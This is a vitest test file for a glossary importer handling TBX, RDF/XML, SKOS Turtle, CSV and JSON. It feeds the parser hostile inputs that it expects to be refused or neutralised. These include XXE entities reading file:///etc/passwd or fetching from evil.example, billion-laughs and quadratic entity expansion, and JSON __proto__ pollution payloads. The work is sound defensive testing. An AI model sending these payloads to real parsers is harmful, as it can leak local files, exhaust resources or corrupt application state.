import fc from 'fast-check';
import * as v from 'valibot';
import { describe, expect, test } from 'vitest';
import { checkOwnGlossary, ownEntrySchema, ownGlossarySchema } from '../../../../glossary/index.ts';
import { type NamedFile, readGlossary } from '../../../../shelf/files/index.ts';
import * as limits from '../../../../shelf/files/limits.ts';
import { fileOf, read, refusal } from './support.ts';

const termbase = (body: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<martif type="TBX-Basic" xml:lang="en"><text><body>${body}</body></text></martif>`;
const term = (text: string, id = 'c1'): string =>
  `<termEntry id="${id}"><langSet xml:lang="en"><tig><term>${text}</term></tig></langSet></termEntry>`;
const rdf = (body: string, before = ''): string =>
  `<?xml version="1.0"?>\n${before}<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:skos="http://www.w3.org/2004/02/skos/core#" xml:lang="en">${body}</rdf:RDF>`;
const concept = (inside: string, id = 'a'): string =>
  `<skos:Concept rdf:about="http://t.example/${id}">${inside}</skos:Concept>`;
const label = (text: string): string => `<skos:prefLabel>${text}</skos:prefLabel>`;
const ttl = (body: string): string => `@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n${body}`;
const json = (entries: string, more = ''): string =>
  `{"format":"konteks-glossary","version":1,"id":"g","title":{"en":"G"},${more}"entries":[${entries}]}`;
const entry = (more = ''): string => `{"id":"a","names":{"en":["a"]}${more}}`;

/** What a file costs that is refused, in bytes of memory that stay. */
async function why(file: NamedFile): Promise<unknown> {
  return refusal(file);
}

describe('XML', () => {
  const LAUGHS = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

  test.each([
    ['names made of names (billion laughs)', 'martif', `[<!ENTITY l0 "ha">${LAUGHS}]`],
    ['a name that is another file', 'martif', '[<!ENTITY x SYSTEM "file:///etc/passwd">]'],
    ['a name that is another file, publicly', 'rdf:RDF', '[<!ENTITY x PUBLIC "x" "https://evil.example/x">]'],
    ['names of parameters', 'rdf:RDF', '[<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]'],
    ['names of parameters with texts', 'martif', '[<!ENTITY % x "y">]'],
    ['attributes with values of their own', 'rdf:RDF', '[<!ATTLIST rdf:RDF xml:base CDATA "https://evil.example/">]'],
    ['markup in a name', 'martif', '[<!ENTITY x "<term>y</term>">]'],
    [
      'more names than anyone needs',
      'martif',
      `[${Array.from({ length: 1000 }, (_, n) => `<!ENTITY n${n} "x">`).join('')}]`,
    ],
    ['a long name', 'martif', `[<!ENTITY x "${'x'.repeat(5000)}">]`],
    ['a declaration that never ends', 'martif', `[<!ENTITY x "${'x'.repeat(200_000)}`],
  ])('that declares %s is refused', async (_what, root, subset) => {
    const doctype = `<!DOCTYPE ${root} ${subset}>`;
    const file = root === 'martif' ? termbase(term('&x;'), doctype) : rdf(concept(label('&x;')), doctype);
    expect(await why(fileOf('x.xml', file))).toMatchObject({ why: 'doctype', line: expect.any(Number) });
  });

  test('whose declared names come to too much is refused (quadratic blow-up)', async () => {
    const doctype = `<!DOCTYPE martif [<!ENTITY x "${'x'.repeat(1000)}">]>`;
    const many = Array.from({ length: 400 }, (_, n) => term('&x;'.repeat(100), `c${n}`)).join('');
    expect(await why(fileOf('x.tbx', termbase(many, doctype)))).toMatchObject({ why: 'doctype' });
    const rdfDoctype = doctype.replace('martif', 'rdf:RDF');
    const concepts = Array.from({ length: 400 }, (_, n) => concept(label('&x;'.repeat(100)), String(n))).join('');
    expect(await why(fileOf('x.rdf', rdf(concepts, rdfDoctype)))).toMatchObject({ why: 'doctype' });
  });

  // Enough of them that trying all ways to part them would take minutes.
  const COMMENTS = '<!--a-->'.repeat(32);

  test('whose comments in what it declares could be parted in many ways is refused at once', async () => {
    const doctype = `<!DOCTYPE martif [${COMMENTS}<!ELEMENT x ANY>]>`;
    expect(await why(fileOf('x.tbx', termbase(term('a'), doctype)))).toMatchObject({ why: 'doctype' });
    expect(await why(fileOf('x.xml', `${COMMENTS}\n<!ELEMENT x ANY>`))).toEqual({ why: 'unknown' });
    expect(await why(fileOf('x.xml', `<!DOCTYPE x [${']x'.repeat(32)}]>${COMMENTS}<!ELEMENT`))).toMatchObject({
      why: 'doctype',
    });
  });

  test('with as many comments as one likes is read', async () => {
    const doctype = `${COMMENTS}<!DOCTYPE martif [${COMMENTS}<!ENTITY un "United Nations">${COMMENTS}]>${COMMENTS}`;
    const { glossary } = await read(fileOf('x.tbx', termbase(term('the &un;'), doctype)));
    expect(glossary.entries[0]?.names.en).toEqual(['the United Nations']);
  });

  test('that declares short names, and what points at a DTD, is read; nothing is fetched', async () => {
    const doctype =
      '<!DOCTYPE martif PUBLIC "ISO 12200:1999A//DTD MARTIF core (DXFcdV04)//EN" "https://evil.example/x.dtd" [\n<!-- a word --> <!ENTITY un "United Nations">]>';
    const { glossary } = await read(fileOf('x.tbx', termbase(term('the &un;'), doctype)));
    expect(glossary.entries[0]?.names.en).toEqual(['the United Nations']);
  });

  test.each([
    ['TBX', termbase(`<termEntry id="c1">${'<descripGrp>'.repeat(1_000_000)}`)],
    ['RDF/XML', rdf(concept('<skos:note><skos:Concept>'.repeat(500_000)))],
  ])('a million levels deep is refused (%s)', async (_what, text) => {
    expect(await why(fileOf('x.xml', text))).toMatchObject({ why: 'deep', line: expect.any(Number) });
  });

  test.each([
    ['TBX', (attributes: string) => termbase(`<termEntry ${attributes}></termEntry>`)],
    ['RDF/XML', (attributes: string) => rdf(`<skos:Concept ${attributes}/>`)],
  ])('with a hundred thousand attributes on one element is refused (%s)', async (_what, make) => {
    const attributes = Array.from({ length: 100_000 }, (_, n) => `a${n}="x"`).join(' ');
    expect(await why(fileOf('x.xml', make(attributes)))).toMatchObject({ why: 'wide' });
  });

  test('with a text of ten million signs is refused, one of a million in one concept only there', async () => {
    expect(await why(fileOf('x.tbx', termbase(term('x'.repeat(10_000_000)))))).toMatchObject({ why: 'long' });
    expect(await why(fileOf('x.rdf', rdf(concept(label('x'.repeat(10_000_000))))))).toMatchObject({ why: 'long' });
    const { glossary, refused } = await read(
      fileOf('x.tbx', termbase(term('x'.repeat(999_999)) + term('short', 'c2'))),
    );
    expect(glossary.entries.map(({ names }) => names.en)).toEqual([['short']]);
    expect(refused.first).toMatchObject([{ place: 1, about: 'c1', why: 'concept-long', isWhole: true }]);
  });

  test.each([
    ['a tag that is not closed', termbase('<termEntry id="c1"></langSet>'), 'xml'],
    ['a name that nobody declares', termbase(term('&nbsp;')), 'xml'],
    ['an attribute without quotes', termbase('<termEntry id=c1/>'), 'xml'],
    ['no end', termbase(term('a')).slice(0, -20), 'cut'],
    ['two roots', `${termbase(term('a'))}<martif/>`, 'xml'],
    ['no namespace for a prefix', termbase('<x:y/>'), 'xml'],
    ['RDF with no end', rdf(concept(label('a'))).slice(0, -12), 'cut'],
    ['RDF with a wrong attribute', rdf('<skos:Concept rdf:bagID="1" rdf:ID="1 2"/>'), 'xml'],
  ])('with %s is refused with its line', async (_what, text, reason) => {
    expect(await why(fileOf('x.xml', text))).toEqual({ why: reason, line: expect.any(Number) });
  });

  test('of no glossary is refused', async () => {
    expect(await why(fileOf('x.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>'))).toEqual({ why: 'unknown' });
    expect(await why(fileOf('x.tbx', termbase('')))).toEqual({ why: 'no-entries' });
  });
});

describe('text', () => {
  const latin = (text: string): Uint8Array<ArrayBuffer> => Uint8Array.from(text, (sign) => sign.charCodeAt(0));
  const utf16 = (text: string, isBig: boolean): Uint8Array<ArrayBuffer> =>
    Uint8Array.from(
      [...text].flatMap((sign) => {
        const code = sign.charCodeAt(0);
        return isBig ? [code >> 8, code & 255] : [code & 255, code >> 8];
      }),
    );
  const declared = (encoding: string, text: string): string =>
    termbase(term(text)).replace('version="1.0"', `version="1.0" encoding="${encoding}"`);

  test.each([
    ['UTF-16, little end first', utf16(`\uFEFF${declared('UTF-16', 'é')}`, false)],
    ['UTF-16, big end first', utf16(`\uFEFF${declared('UTF-16', 'é')}`, true)],
    ['UTF-16 without a mark', utf16(declared('UTF-16', 'é'), false)],
    ['ISO-8859-1', latin(declared('ISO-8859-1', 'é'))],
    ['windows-1252', latin(declared('windows-1252', 'é'))],
    ['UTF-8 with a mark', new TextEncoder().encode(`\uFEFF${declared('UTF-8', 'é')}`)],
  ])('in %s is read', async (_what, bytes) => {
    const { glossary } = await read(fileOf('x.tbx', bytes as Uint8Array<ArrayBuffer>));
    expect(glossary.entries[0]?.names.en).toEqual(['é']);
  });

  test.each([
    ['UTF-8 that says it is ISO-8859-1', new TextEncoder().encode(declared('ISO-8859-1', 'é')), 'mislabelled'],
    ['UTF-8 that says it is UTF-16', new TextEncoder().encode(declared('UTF-16', 'é')), 'mislabelled'],
    ['windows-1252 that says it is UTF-8', latin(declared('UTF-8', 'é')), 'encoding'],
    ['windows-1252 that says nothing', latin(`term;definition\r\ncafé;x\r\n`), 'encoding'],
    ['an encoding that nobody reads', latin(declared('EBCDIC-US', 'e')), 'encoding'],
    ['UTF-16 cut in the middle of a sign', utf16(`\uFEFF${declared('UTF-16', 'é')}`, false).slice(0, -1), 'encoding'],
    ['something that is no text', Uint8Array.from({ length: 1000 }, (_, n) => (n * 7) % 256), 'encoding'],
    ['nothing', new Uint8Array(), 'empty'],
    ['blanks', new TextEncoder().encode(' \n\t '), 'empty'],
  ])('in %s is refused', async (_what, bytes, reason) => {
    expect(await why(fileOf('x.tbx', bytes as Uint8Array<ArrayBuffer>))).toMatchObject({ why: reason });
  });

  test('with a zero in it is refused with its line, in whatever format', async () => {
    expect(await why(fileOf('x.csv', 'term,definition\na,b\nc,d\0\n'))).toEqual({ why: 'nul', line: 3 });
    expect(await why(fileOf('x.tbx', termbase(term('a\0'))))).toEqual({ why: 'nul', line: 1 });
  });

  test('that is too large is refused before it is read', async () => {
    const large = {
      name: 'x.tbx',
      size: limits.FILE_LIMIT + 1,
      slice: (): never => expect.unreachable(),
      stream: (): never => expect.unreachable(),
    };
    expect(await why(large)).toEqual({ why: 'large' });
  });
});

describe('SKOS', () => {
  test('whose hierarchy goes round in circles is read', async () => {
    const ring = (n: number): string =>
      `<http://t.example/${n}> a skos:Concept ; skos:prefLabel "c${n}"@en ; skos:broader <http://t.example/${(n + 1) % 1000}> , <http://t.example/${n}> ; skos:related <http://t.example/${n}> .`;
    const { glossary } = await read(fileOf('x.ttl', ttl(Array.from({ length: 1000 }, (_, n) => ring(n)).join('\n'))));
    expect(glossary.entries).toHaveLength(1000);
    expect(glossary.entries.every(({ id, related }) => !related.includes(id) && related.length === 1)).toBe(true);
    expect(new Set(glossary.entries.map(({ section }) => section)).size).toBe(1);
  });

  test.each([
    ['a text that never ends', ttl('<a> skos:prefLabel "abc'), 'cut'],
    ['a word where none can be', ttl('<a> a nonsense .\n<b> a skos:Concept .'), 'turtle'],
    ['a long text that never ends', ttl(`<a> skos:prefLabel """${'x'.repeat(20_000_000)}`), 'long'],
    [
      'a text of ten million signs',
      ttl(`<a> a skos:Concept ; skos:prefLabel "${'x'.repeat(10_000_000)}"@en .`),
      'long',
    ],
    ['a prefix that is not declared', ttl('<a> nope:x <b> .'), 'turtle'],
    ['an end in the middle', ttl('<a> a skos:Concept ; skos:prefLabel "a"@en'), 'cut'],
    ['a million nodes in nodes', ttl(`<a> skos:note ${'[ skos:note '.repeat(1_000_000)}`), 'long'],
    ['a million lists in lists', ttl(`<a> skos:note ${'('.repeat(5_000_000)}`), 'long'],
    ['no concept', ttl('<a> <b> <c> .'), 'no-entries'],
  ])('in Turtle with %s is refused', async (_what, text, reason) => {
    expect(await why(fileOf('x.ttl', text))).toMatchObject({ why: reason });
  });
});

describe('SKOS in which many concepts share a thing', () => {
  const many = (said: string): string =>
    Array.from(
      { length: 50 },
      (_, n) => `<http://t.example/${n}> a skos:Concept ; skos:prefLabel "c${n}"@en ; ${said} .`,
    ).join('\n');
  const LONG = 'x'.repeat(30_000);

  test.each([
    ['a note', many('skos:note _:b'), `_:b skos:note "${LONG}" .`],
    ['a note of a note', many('skos:note [ skos:note _:b ]'), `_:b skos:note "${LONG}" .`],
    [
      'a label that is a thing',
      many('skosxl:altLabel <http://t.example/l>'),
      `<http://t.example/l> a skosxl:Label ; skosxl:literalForm "${LONG}"@fr .`,
    ],
  ])('keeps %s once', async (_what, concepts, shared) => {
    const text = `@prefix skosxl: <http://www.w3.org/2008/05/skos-xl#> .\n${ttl(`${concepts}\n${shared}`)}`;
    const { glossary, refused } = await read(fileOf('x.ttl', text));
    expect(glossary.entries).toHaveLength(50);
    expect([refused.entries, refused.parts]).toEqual([0, 0]);
    expect(JSON.stringify(glossary).split(LONG)).toHaveLength(2);
  });

  test('has a title that can be shown, however long it is', async () => {
    const scheme = `<http://t.example/s> a skos:ConceptScheme ; skos:prefLabel "${'long '.repeat(1000)}"@en .`;
    const { glossary } = await read(fileOf('x.ttl', ttl(`${scheme}\n${many('skos:inScheme <http://t.example/s>')}`)));
    expect(checkOwnGlossary(glossary)).toMatchObject({ ok: true });
  });
});

describe('a note that Konteks is said to have added', () => {
  const value = fc.oneof(
    fc.constantFrom<unknown>(null, '', 'a', [], ['a'], {}, { id: 'a' }, { en: '' }, { id: [], en: [] }, { en: ['b'] }),
    fc.jsonValue(),
  );
  const fieldsOf = (schema: typeof ownEntrySchema | typeof ownGlossarySchema) =>
    fc.dictionary(fc.constantFrom(...Object.keys(schema.entries)), value, { maxKeys: 4 });
  const noteOf = (fields: object): string =>
    `konteks: ${JSON.stringify(fields)}`.replaceAll('&', '').replaceAll('<', '');
  const turtle = (text: string): string => JSON.stringify(text.replace(/[^ -~]/gu, ''));
  const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;

  const headed = (note: string): string =>
    `<martifHeader><fileDesc><sourceDesc><p>${note}</p></sourceDesc></fileDesc></martifHeader><text>`;

  test('cannot give two sections one id', async () => {
    const sections = ['First', 'Second'].map((en) => ({ id: 's', title: { en } }));
    const { glossary } = await read(
      fileOf(
        'x.tbx',
        termbase(term('a')).replace('<text>', () => headed(noteOf({ sections }))),
      ),
    );
    expect(glossary.sections.map(({ title }) => title.en)).toEqual(['First']);
  });

  test('cannot make anything that is no glossary', async () => {
    await fc.assert(
      fc.asyncProperty(fieldsOf(ownEntrySchema), fieldsOf(ownGlossarySchema), async (ofEntry, ofGlossary) => {
        const [inEntry, inHead] = [noteOf(ofEntry), noteOf(ofGlossary)];
        const files = [
          fileOf('x.csv', `term,definition,data\na,b,${cell(inEntry)}\n`),
          fileOf(
            'x.tbx',
            termbase(term('a').replace('<langSet', () => `<note>${inEntry}</note><langSet`)).replace('<text>', () =>
              headed(inHead),
            ),
          ),
          fileOf(
            'x.ttl',
            ttl(
              `<https://konteks.example/glossary/g> a skos:ConceptScheme ; <https://konteks.example/ns#rest> ${turtle(inHead)} .
              <http://t.example/a> a skos:Concept ; skos:inScheme <https://konteks.example/glossary/g> ; skos:prefLabel "a"@en ; <https://konteks.example/ns#rest> ${turtle(inEntry)} .`,
            ),
          ),
        ];
        for (const file of files) {
          const { glossary } = await read(file);
          expect(v.safeParse(ownGlossarySchema, JSON.parse(JSON.stringify(glossary))).issues).toBeUndefined();
        }
      }),
      {
        numRuns: 60,
        examples: [
          [{ definition: null }, { title: null }],
          [{ names: null }, { id: null }],
          [{ related: null, kind: null, inArticle: null }, { sections: null }],
        ],
      },
    );
  });
});

describe('a table', () => {
  test.each([
    ['a quotation that never ends', 'term,definition\na,b\nc,"d\ne,f\n', { why: 'cut', line: 3 }],
    ['a million columns', `term,definition\n${'x,'.repeat(1_000_000)}`, { why: 'wide', line: 2 }],
    ['a million columns in its headings', `${'term,'.repeat(1_000_000)}\na`, { why: 'wide', line: 1 }],
    ['nothing below its headings', 'term,definition\n', { why: 'no-entries' }],
  ])('with %s is refused', async (_what, text, problem) => {
    expect(await why(fileOf('x.csv', text))).toEqual(problem);
  });

  test('with rows of any length is read; what stands beyond the headings is told', async () => {
    const { glossary, refused } = await read(fileOf('x.csv', 'term,definition\na\n\n,only a text\n"e;f|g",h\nb,c,d\n'));
    expect(glossary.entries.map(({ names }) => names.en)).toEqual([['a'], ['e', 'f', 'g'], ['b']]);
    expect(refused.first).toMatchObject([
      { place: 4, about: '', why: 'no-name', isWhole: true },
      { place: 6, about: 'b', why: 'ragged', isWhole: false },
    ]);
  });

  test('with a cell of ten million signs is read without it', async () => {
    const { glossary, refused } = await read(
      fileOf('x.csv', `term,definition\na,${'x'.repeat(10_000_000)}\n${'y'.repeat(1_000_000)},b\n`),
    );
    expect(glossary.entries.map(({ names, definition }) => [names.en, definition.en])).toEqual([[['a'], '']]);
    expect(refused.first.map(({ why: reason }) => reason).sort()).toEqual(['name-long', 'no-name', 'text-long']);
  });
});

describe('JSON', () => {
  test('in which a section has the id of another is read with the first', async () => {
    const sections = '"sections":[{"id":"s","title":{"en":"First"}},{"id":"s","title":{"en":"Second"}}],';
    const { glossary, refused } = await read(fileOf('x.json', json(entry(',"section":"s"'), sections)));
    expect(glossary.sections.map(({ title }) => title.en)).toEqual(['First']);
    expect(glossary.entries[0]?.section).toBe('s');
    expect(refused).toEqual({
      entries: 0,
      parts: 1,
      first: [{ place: 0, about: 'Second', why: 'twice', field: 's', isWhole: false }],
    });
  });

  test('whose topics are not sound is read without them, and without what needs them', async () => {
    const rule = (clue: string): string =>
      `"senses":[{"names":["b"],"default":"mark","words":["${clue}"],"others":[{"means":{"id":"x","en":"x"},"words":["word"]}]}]`;
    const items = [
      entry(',"related":["b","c"]'),
      `{"id":"b","names":{"en":["b"]},"related":["a"],${rule('@t')}}`,
      `{"id":"c","names":{"en":["b"]},"related":["b"],${rule('word')}}`,
    ];
    const more = '"topics":{"t":["one","one"]},"home":["nope"],';
    const { glossary, refused, unlinked } = await read(fileOf('x.json', json(items.join(','), more)));
    expect(glossary.entries.map(({ id, related }) => [id, related])).toEqual([
      ['a', ['c']],
      ['c', []],
    ]);
    expect([glossary.topics, glossary.home, unlinked]).toEqual([undefined, undefined, 2]);
    expect(refused.first.map(({ why: reason, field, place }) => [reason, field, place])).toEqual([
      ['wrong', 'topics', 0],
      ['wrong', 'senses', 2],
    ]);
  });

  test.each([
    ['nested a million deep', json(entry(`,"x":${'['.repeat(1_000_000)}`)), { why: 'deep', line: 1 }],
    ['that ends too early', json(entry()).slice(0, -5), { why: 'cut', line: 1 }],
    ['that is damaged', json(`${entry()}\n,,`), { why: 'json', line: 2 }],
    ['of a later version', json(entry()).replace('"version":1', '"version":2'), { why: 'version' }],
    ['of something else', '{"bookmarks":[]}', { why: 'unknown' }],
  ])('%s is refused', async (_what, text, problem) => {
    expect(await why(fileOf('x.json', text))).toEqual(problem);
  });

  test('cannot give things to all objects', async () => {
    const { glossary, refused } = await read(
      fileOf(
        'x.json',
        json(
          `${entry(',"sameIn":{"__proto__":["a"]}')},{"id":"b","names":{"en":["b"]},"__proto__":{"isEvil":true}}`,
          '"__proto__":{"isEvil":true},"constructor":{"prototype":{"isEvil":true}},',
        ),
      ),
    );
    expect(({} as { isEvil?: boolean }).isEvil).toBeUndefined();
    expect(glossary.entries.map((each) => (each as { isEvil?: boolean }).isEvil)).toEqual(
      glossary.entries.map(() => undefined),
    );
    expect(refused.entries).toBeLessThanOrEqual(2);
  });

  test('with entries that are not sound gives the others, and says which and why', async () => {
    const items = [
      entry(),
      '5',
      '{"id":"b","names":{}}',
      '{"id":"A b","names":{"en":["c"]}}',
      entry(),
      '{"id":"d","names":{"en":["d"]},"related":["a","nope","d"],"section":"nope"}',
    ];
    const { glossary, refused, unlinked } = await read(fileOf('x.json', json(items.join(','))));
    expect(glossary.entries.map(({ id, related, section }) => [id, related, section])).toEqual([
      ['a', [], undefined],
      ['d', ['a'], undefined],
    ]);
    expect(unlinked).toBe(1);
    expect(refused.first).toMatchObject([
      { place: 2, why: 'wrong', isWhole: true },
      { place: 3, why: 'wrong', field: 'names', isWhole: true },
      { place: 4, about: 'c', why: 'wrong', field: 'id' },
      { place: 5, why: 'twice', field: 'a' },
    ]);
  });
});

test('a reading that is called off ends at once', async () => {
  const file = fileOf('x.tbx', termbase(Array.from({ length: 20_000 }, (_, n) => term(`t${n}`, `c${n}`)).join('')));
  let calls = 0;
  const stop = (): void => {
    calls += 1;
    throw new Error('called off');
  };
  await expect(readGlossary(file, { languages: { en: 'en' } }, stop)).rejects.toThrow('called off');
  expect(calls).toBe(1);
});
